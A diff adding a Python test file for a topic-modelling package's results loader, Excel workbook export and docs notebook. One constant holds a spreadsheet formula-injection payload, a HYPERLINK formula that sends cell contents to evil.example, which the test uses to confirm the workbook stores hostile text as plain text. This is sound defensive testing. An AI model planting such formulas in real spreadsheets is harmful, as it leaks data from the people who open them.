@@ -1,0 +1,133 @@
+"""Results outside the report: papertopics.load in a notebook (docs/notebook.ipynb), topics.xlsx."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import nbformat
+import openpyxl
+import pandas as pd
+import pytest
+
+import papertopics
+from papertopics.report.workbook import read_tables, workbook_sheets, write_workbook
+from papertopics.results import ResultsError
+
+REPO = Path(__file__).resolve().parents[1]
+NOTEBOOK = REPO / "docs" / "notebook.ipynb"
+HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click me")'
+
+
+def _tables(folder: Path) -> Path:
+    """A tiny results folder: titles that pandas' defaults would turn into NaN."""
+    topics = folder / "results" / "topics"
+    topics.mkdir(parents=True)
+    (topics / "topics.csv").write_text(
+        "topic,model_topic,label,size,top_terms,representative_doc_ids,cohesion,region,region_label\n"
+        "-1,-1,Outliers (no topic),1,,,,-1,\n"
+        "3,0,NA,2,na; null,a;b,0.25,0,NA\n",
+        encoding="utf-8",
+    )
+    (topics / "document_topics.csv").write_text(
+        "doc_id,listings,topic,topic_label,title,text,url,assignment,confidence\n"
+        f'a,x,3,NA,NA,First abstract.,,core,1.0\nb,x,3,NA,null,"Form\x0cfeed, in text.",,nearest,0.5\n'
+        f'c,x,-1,Outliers (no topic),"{HOSTILE_TITLE.replace(chr(34), chr(34) * 2)}",Third.,u,outlier,0.01\n',
+        encoding="utf-8",
+    )
+    return folder
+
+
+def test_load_reads_text_as_text_and_numbers_as_numbers(tmp_path):
+    results = papertopics.load(_tables(tmp_path))
+    docs = results.documents
+    assert docs["title"].tolist() == ["NA", "null", HOSTILE_TITLE]
+    assert docs["url"].tolist() == ["", "", "u"]  # an empty cell is "", never NaN
+    assert docs["topic"].tolist() == [3, 3, -1] and docs["confidence"].tolist() == [1.0, 0.5, 0.01]
+    assert docs["name"].tolist() == ["NA", "NA", "Outliers (no topic)"]
+    topics = results.topics
+    assert topics["name"].tolist() == ["Outliers (no topic)", "NA"]
+    assert topics["terms"].tolist() == [[], ["na", "null"]]
+    assert topics["share"].tolist() == pytest.approx([1 / 3, 2 / 3])
+    assert results.topic_of_model == {-1: -1, 0: 3}
+    with pytest.raises(ResultsError, match="no results/topics/topics.csv; run `papertopics run"):
+        papertopics.load(tmp_path / "elsewhere")
+
+
+def test_workbook_keeps_hostile_text_as_text_and_drops_illegal_characters(tmp_path):
+    folder = _tables(tmp_path)
+    sheets = workbook_sheets(
+        *read_tables(folder / "results/topics/topics.csv", folder / "results/topics/document_topics.csv")
+    )
+    documents = sheets["documents"].copy()
+    documents.loc[1, "title"] = "A title with a form feed \x0c and a bell \x07 inside"
+    sheets["documents"] = documents
+    path = tmp_path / "topics.xlsx"
+    write_workbook(path, sheets)
+    book = openpyxl.load_workbook(path)
+    assert book.sheetnames == ["topics", "documents"]
+    topics = [[c.value for c in row] for row in book["topics"].iter_rows()]
+    assert topics[0] == ["id", "name", "size", "share", "terms", "cohesion", "region"]
+    assert topics[2] == [3, "NA", 2, pytest.approx(2 / 3), "na, null", 0.25, "NA"]
+    rows = list(book["documents"].iter_rows())
+    assert [c.value for c in rows[0]] == [
+        "title",
+        "topic",
+        "name",
+        "assignment",
+        "confidence",
+        "url",
+        "listings",
+        "doc_id",
+    ]
+    hostile = rows[3][0]
+    assert hostile.value == HOSTILE_TITLE and hostile.data_type == "s"  # text, not a formula
+    assert rows[2][0].value == "A title with a form feed  and a bell  inside"
+    assert rows[1][0].value == "NA" and rows[1][1].value == 3
+    # no formula anywhere in the file itself
+    import zipfile
+
+    with zipfile.ZipFile(path) as archive:
+        xml = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
+    assert "<f>" not in xml and "<f " not in xml
+
+
+def test_the_runs_workbook_has_its_topics_and_documents(seed_run):
+    book = openpyxl.load_workbook(seed_run / "results/topics/topics.xlsx", read_only=True)
+    topics = pd.read_csv(seed_run / "results/topics/topics.csv", keep_default_na=False)
+    documents = pd.read_csv(seed_run / "results/topics/document_topics.csv", keep_default_na=False)
+    rows = list(book["topics"].iter_rows(values_only=True))
+    assert rows[0][:5] == ("id", "name", "size", "share", "terms")
+    assert [r[0] for r in rows[1:]] == topics["topic"].tolist()
+    assert [r[1] for r in rows[1:]] == topics["label"].tolist()
+    assert sum(r[3] for r in rows[1:]) == pytest.approx(1.0)
+    docs = list(book["documents"].iter_rows(values_only=True))
+    assert len(docs) == len(documents) + 1
+    assert [r[docs[0].index("doc_id")] for r in docs[1:]] == documents["doc_id"].tolist()
+
+
+def test_saved_model_names_a_model_folder_a_loader_finds_offline(seed_run):
+    config = json.loads((seed_run / "results/topics/model/config.json").read_text())
+    folder = Path(config["embedding_model"])
+    assert folder.is_absolute() and (folder / "modules.json").is_file()
+
+
+def test_the_notebook_runs_on_a_finished_run(seed_run):
+    """docs/notebook.ipynb's code cells, in order, with FOLDER set to the seed run."""
+    notebook = nbformat.read(NOTEBOOK, as_version=4)
+    cells = [c for c in notebook.cells if c.cell_type == "code"]
+    assert "parameters" in cells[0].metadata.get("tags", [])
+    namespace: dict = {"FOLDER": str(seed_run)}
+    for i, cell in enumerate(cells[1:], 2):
+        exec(compile(cell.source, f"notebook cell {i}", "exec"), namespace)
+    results = namespace["results"]
+    metrics = json.loads((seed_run / "results/metrics.json").read_text())
+    assert len(results.topics.query("topic >= 0")) == metrics["n_topics"]
+    assert len(results.documents) == metrics["n_documents"] == len(results.map)
+    new = namespace["new"]
+    assert len(new) == 2 and set(new["topic"]) <= set(results.topics["topic"])
+    assert new["name"].tolist() == [results.topics.set_index("topic").loc[t, "name"] for t in new["topic"]]
+    # the model's own numbers map to topics.csv's ids
+    assert set(results.topic_of_model.values()) == set(results.topics["topic"])
+    words = namespace["model"].get_topic(namespace["model_topic"])
+    assert words and all(isinstance(w, str) for w, _ in words)
